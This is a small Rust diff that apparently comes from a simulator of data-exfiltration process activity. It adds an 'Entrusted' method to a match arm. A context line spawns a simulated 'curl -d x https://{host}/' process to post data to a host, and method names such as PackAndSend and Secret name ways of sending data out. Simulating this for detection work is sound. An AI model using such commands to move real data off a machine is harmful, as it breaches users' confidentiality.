@@ -24,7 +24,7 @@ impl Play<'_> {
                 let parent = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
                 self.scene.spawn(self.now, parent, CURL, &format!("curl -d x https://{host}/"))
             }
-            (Method::Direct | Method::PackAndSend | Method::Secret | Method::Pipeline, Some(pid)) => pid,
+            (Method::Direct | Method::PackAndSend | Method::Secret | Method::Pipeline | Method::Entrusted, Some(pid)) => pid,
             (Method::Daemon, Some(pid)) => {
                 if self.random.chance(50) {
                     self.scene.exec(self.now, pid, sender, &argv);
